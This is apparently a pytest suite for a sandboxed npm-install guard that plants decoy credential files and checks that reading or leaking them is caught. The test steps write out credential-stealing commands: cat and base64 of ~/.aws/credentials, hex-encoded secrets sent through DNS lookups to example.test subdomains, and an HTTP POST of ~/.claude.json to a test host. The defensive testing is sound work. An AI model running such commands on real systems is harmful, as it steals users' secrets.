"""False credentials in a script's home: opening one is seen, and what is in it is found again wherever it went."""

from __future__ import annotations

from pathlib import Path

import pytest

from safe_install.run.needles import Needles
from tests.builders import a_manifest
from tests.run.outside import HOST, Outside
from tests.run.runner import Runner, codes
from tests.run.site import a_step

pytestmark = [pytest.mark.npm, pytest.mark.sandbox]

A = "node_modules/a"
DECOYS = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".claude.json"]
DECOYS += [".claude/.credentials.json", ".config/gh/hosts.yml"]


@pytest.mark.parametrize("name", DECOYS)
def test_reading_a_decoy_is_seen(runner: Runner, name: str) -> None:
    (outcome,) = runner.run(a_step(f"cat ~/{name} > /dev/null", location=A))
    assert outcome.touched == (f"~/{name}",)
    assert outcome.leaked == ()
    assert codes((outcome,)) == [0]


def test_opening_without_reading_and_searching_the_home_are_seen(runner: Runner) -> None:
    assert runner.run(a_step("exec 3< ~/.aws/credentials", location=A))[0].touched == ("~/.aws/credentials",)
    (outcome,) = runner.run(a_step("grep -r nothing-at-all ~ /tmp; true", location=A))
    assert set(outcome.touched) == {f"~/{name}" for name in DECOYS}


def test_a_script_that_leaves_them_alone_is_told_nothing_of(runner: Runner) -> None:
    command = "ls -la ~ ~/.ssh; stat ~/.aws/credentials; mkdir -p ~/.cache ~/.config/tool; echo x > ~/.npmrc; cat ~/.npmrc; node -e 0"
    (outcome,) = runner.run(a_step(command, location=A))
    assert codes((outcome,)) == [0]
    assert outcome.touched == ()


def test_they_look_real_are_new_each_time_and_cannot_be_changed(runner: Runner) -> None:
    command = "cat ~/.aws/credentials; stat -c %a ~/.ssh/id_rsa; echo x > ~/.ssh/id_rsa; echo x > ~/.ssh/other; exit 1"
    told = [runner.run(a_step(command, location=A))[0].output for _ in range(2)]
    assert "aws_secret_access_key = " in told[0]
    assert "600" in told[0]
    assert told[0].count("Read-only") == 2
    assert told[0] != told[1]


WAYS = {
    "as it is": "cat ~/.aws/credentials > {}",
    "reversed": "rev ~/.aws/credentials > {}",
    "in hex": "od -An -tx1 -v ~/.aws/credentials | tr -d ' \\n' > {}",
    "in base64": "base64 -w0 ~/.aws/credentials > {}",
    "in shifted base64": "(printf x; cat ~/.aws/credentials) | base64 -w0 > {}",
    "in base64 of addresses": "(printf xy; cat ~/.aws/credentials) | base64 -w0 | tr '+/' '-_' > {}",
    "in part": "sed -n 's/.*secret_access_key = //p' ~/.aws/credentials | cut -c5-45 > {}",
}


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS.keys())
def test_a_file_that_gives_one_away_fails_the_install_and_nothing_is_kept(runner: Runner, way: str) -> None:
    first = a_step(f"echo new > beside; {way.format('index.dat')}", location=A)
    outcomes = runner.run(first, a_step("true", location="node_modules/b"))
    assert codes(outcomes) == [0]
    assert outcomes[0].failed
    assert outcomes[0].leaked == (f"{A}/index.dat",)
    assert [path.name for path in (runner.project / A).iterdir()] == ["package.json"]


def test_an_optional_package_that_gives_one_away_is_not_tolerated(runner: Runner) -> None:
    step = a_step("cat ~/.aws/credentials; exit 1", location=A, artifact={"optional": True})
    (outcome,) = runner.run(step)
    assert outcome.leaked == ("what it printed",)
    assert not outcome.tolerated


def test_a_name_that_gives_one_away_is_noticed_though_it_goes_nowhere(runner: Runner) -> None:
    secret = "$(sed -n 's/.*secret_access_key = //p' ~/.aws/credentials | od -An -tx1 -v | tr -d ' \\n'"
    command = f"node -e 'require(\"dns\").lookup(process.argv[1], () => {{}})' {secret} | cut -c1-60).example.test"
    assert runner.run(a_step(command, location=A))[0].leaked == ("a name that it looked up",)
    pieces = f"for piece in {secret} | fold -w 20); do node -e 'require(\"dns\").lookup(process.argv[1], () => {{}})' $piece.example.test; done"
    assert runner.run(a_step(pieces, location=A))[0].leaked == ("a name that it looked up",)


def test_a_plain_request_that_gives_one_away_is_noticed(runner: Runner, tmp_path: Path) -> None:
    files = {
        "send.js": f'require("http").request({{host: "{HOST}", method: "POST"}}).end(require("fs").readFileSync(process.env.HOME + "/.claude.json"))'
    }
    with Outside(tmp_path) as outside:
        step = a_step("node send.js", files, location=A, network=(HOST,))
        (outcome,) = runner.run(step, optional_set=lambda _: (), **outside.env)
    assert outcome.leaked == ("a plain HTTP request",)


def test_decoys_in_the_environment_are_there_only_when_asked_for(runner: Runner) -> None:
    step = a_step("env", {"package.json": a_manifest("a")}, location=A)
    assert "ANTHROPIC_API_KEY" not in runner.run(step)[0].output
    runner.decoys_in_env = True
    (outcome,) = runner.run(step)
    assert "ANTHROPIC_API_KEY=sk-ant-api03-" in outcome.output
    assert outcome.leaked == ("what it printed",)


def test_where_opening_cannot_be_watched_everything_is_searched(
    runner: Runner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("safe_install.run.decoys.Decoys._watch", lambda _: -1)
    (outcome,) = runner.run(a_step("cat ~/.aws/credentials > file", location=A))
    assert outcome.touched == ()
    assert outcome.leaked == (f"{A}/file",)
    assert "decoys could not be watched" in outcome.walls


def test_no_ordinary_text_is_taken_for_a_secret() -> None:
    needles = Needles([b"kX2mPqR8vN4tYwZ1aBcD3eFgH5iJkL6nOpQ"])
    assert not needles.are_in(Path(pytest.__file__).read_bytes())
    assert not needles.are_in_names(["registry.example.test", "a.b.c.d.e.f"] * 50)
